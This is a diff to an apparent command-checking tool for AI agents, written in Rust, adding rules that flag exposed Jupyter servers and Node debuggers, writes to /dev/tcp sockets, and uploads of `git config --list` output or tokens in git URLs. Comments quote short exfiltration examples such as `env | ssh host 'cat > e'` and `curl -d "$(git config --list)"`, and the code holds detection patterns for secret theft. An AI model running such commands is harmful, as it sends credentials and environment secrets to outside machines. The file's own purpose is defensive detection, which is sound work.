@@ -90,6 +90,11 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     if name == "ssh" && forwards_agent(call.args(), call.ctx) {
         return Some(Hit::ask("exfiltration.agent-forward", AGENT_FORWARD));
     }
+    if matches!(name, "jupyter" | "jupyter-lab" | "jupyter-notebook" | "node" | "nodejs" | "deno" | "bun")
+        && exposes_code_execution(name, command)
+    {
+        return Some(Hit::ask("exfiltration.tunnel", EXPOSED));
+    }
     if shares_files(name, call.args()) {
         return Some(Hit::ask("exfiltration.upload", UPLOAD));
     }
@@ -114,6 +119,14 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     if to_socket && super::credentials::lists_environment(command) {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
     }
+    // `CMD | tee /dev/tcp/h/p`: bash's socket files are no files to `tee`, but the
+    // redirection's target spelled as an operand is judged as the redirection is.
+    if name == "tee" && tees_to_socket(call) {
+        if super::credentials::carries_environment(call.analysis, command) {
+            return Some(Hit::new("exfiltration.environment", MESSAGE));
+        }
+        return Some(Hit::ask("exfiltration.upload", UPLOAD));
+    }
     // `env | ssh host 'cat > e'`: the remote command is what was peeled out of `ssh`.
     let sent = NETWORK_CLIENTS.contains(&name)
         || command
@@ -133,6 +146,10 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     let uploaded = || super::credentials::reads_environment_file(call);
     if piped || substituted || uploaded() {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
+    }
+    // `curl -d "$(git config --list)"`: every setting, a remote's token among them.
+    if call.args().iter().any(|arg| arg.dynamic && substitutes_git_config(&arg.raw)) {
+        return Some(Hit::ask("exfiltration.upload", UPLOAD));
     }
     if call.args().iter().any(|a| a.dynamic)
         && (builds_destination(name, call.args()) || looks_up_computed(name, call.args()))
@@ -784,6 +801,11 @@ fn weakens_git(command: &SimpleCommand) -> bool {
         return false;
     }
     let Some((key, value)) = crate::shell::git_config_setting(&command.argv[at + 1..]) else { return false };
+    // `git config --global url."https://$GITHUB_TOKEN@github.com/".insteadOf …`: the token
+    // kept in plain text in the config, which `git config --list` prints.
+    if [key, value].iter().any(|w| w.dynamic && super::credentials::secret_variable(&w.raw)) {
+        return true;
+    }
     match key.text.to_ascii_lowercase().as_str() {
         "credential.helper" => value.dynamic || value.text.split_whitespace().next() == Some("store"),
         "safe.directory" => value.dynamic || value.text == "*",
@@ -954,6 +976,80 @@ fn substitutes_environment(raw: &str) -> bool {
     })
 }
 
+/// Whether the command lets any machine that reaches this one run code in it: Jupyter
+/// listening on another address than the loopback one (`--ip 0.0.0.0`, `--ip='*'`) with an
+/// empty token, or a JavaScript debugger listening there (`node --inspect=0.0.0.0:9229`,
+/// `--inspect-brk`, also through `NODE_OPTIONS`). Their loopback forms (`jupyter lab`, `node
+/// --inspect`) open nothing.
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+fn exposes_code_execution(name: &str, command: &SimpleCommand) -> bool {
+    let args = command.args();
+    let bare = |value: &str| value.trim_matches(['\'', '"']).to_string();
+    // `--ip X`, `--ip=X`, `--ServerApp.ip=X`: the value of the first option so named.
+    let value = |names: &[&str]| {
+        args.iter().enumerate().find_map(|(at, arg)| {
+            names.iter().find_map(|option| match arg.text.strip_prefix(option) {
+                Some("") => args.get(at + 1).map(|v| bare(&v.text)),
+                Some(rest) => rest.strip_prefix('=').map(bare),
+                None => None,
+            })
+        })
+    };
+    // An empty address, `*` and `0.0.0.0` are every interface.
+    let network = |host: &str| !loopback(host);
+    if name.starts_with("jupyter") {
+        let ip = value(&["--ip", "--ServerApp.ip", "--NotebookApp.ip"]);
+        let token = value(&["--ServerApp.token", "--NotebookApp.token", "--IdentityProvider.token"]);
+        return ip.is_some_and(|ip| network(&ip)) && token.is_some_and(|token| token.is_empty());
+    }
+    let inspects = |text: &str| {
+        ["--inspect=", "--inspect-brk=", "--inspect-wait="].iter().any(|option| {
+            text.split_whitespace().any(|word| {
+                word.strip_prefix(option).is_some_and(|address| {
+                    let address = bare(address);
+                    // `--inspect=9229` is a port on the loopback address.
+                    match address.rsplit_once(':') {
+                        Some((host, _)) => network(host.trim_matches(['[', ']'])),
+                        None => !address.bytes().all(|b| b.is_ascii_digit()) && network(&address),
+                    }
+                })
+            })
+        })
+    };
+    args.iter().take_while(|a| a.text.starts_with('-')).any(|a| inspects(&a.text))
+        || command
+            .assignments
+            .iter()
+            .any(|(variable, value)| variable == "NODE_OPTIONS" && inspects(&value.text))
+}
+
+/// Whether `tee` writes to a socket of another machine (`/dev/tcp/HOST/PORT`, `/dev/udp/…`);
+/// under bash such a path in a redirection opens the connection, and the shells that run a
+/// `tee` given it from a script (`sh -c 'x | tee /dev/tcp/…'`) do not make it a file either.
+fn tees_to_socket(call: &Call) -> bool {
+    call.args().iter().any(|arg| {
+        ["/dev/tcp/", "/dev/udp/"].iter().any(|prefix| {
+            arg.text.strip_prefix(prefix).is_some_and(|rest| {
+                let host = rest.split('/').next().unwrap_or_default();
+                arg.dynamic || !loopback(host)
+            })
+        })
+    })
+}
+
+/// Whether `raw` substitutes the listing of git's settings (`$(git config --list)`,
+/// `` `git config -l` ``), where a remote's or an `insteadOf` URL's token is.
+fn substitutes_git_config(raw: &str) -> bool {
+    let compact: String = raw.split_whitespace().collect::<Vec<_>>().join(" ");
+    ["$(git config", "`git config"].iter().any(|start| {
+        compact.match_indices(start).any(|(at, _)| {
+            let inner = &compact[at + start.len()..];
+            let inner = &inner[..inner.find([')', '`']).unwrap_or(inner.len())];
+            inner.split_whitespace().any(|w| matches!(w, "-l" | "--list" | "--get-regexp"))
+        })
+    })
+}
+
 /// Whether the command makes a port of this machine reachable from outside: a reverse ssh
 /// forward (`ssh -R`, `-o RemoteForward=`), `ngrok http|tcp|tls|start`, `cloudflared tunnel`
 /// (`--url`, `run`), `bore local`, `lt`/`localtunnel --port`, `tailscale funnel|serve`, the
@@ -1090,6 +1186,7 @@ fn known_ssh_host(home: &std::path::Path, host: &str) -> bool {
 
 const AGENT_FORWARD: &str = "This forwards your ssh agent to a host your ssh configuration and known hosts do not name: whoever is root there can use every key the agent holds while the session lasts. Connect without `-A`, or ask the user.";
 
+const EXPOSED: &str = "This lets any machine that reaches this one run code in it: a notebook server without a token, or a debugger, listening on the network. Keep it on the loopback address (`--ip 127.0.0.1`, `--inspect=127.0.0.1:9229`), or ask the user.";
 const TUNNEL: &str =
     "This opens a port of this machine to the outside, past its firewall. Ask the user before exposing it.";
 
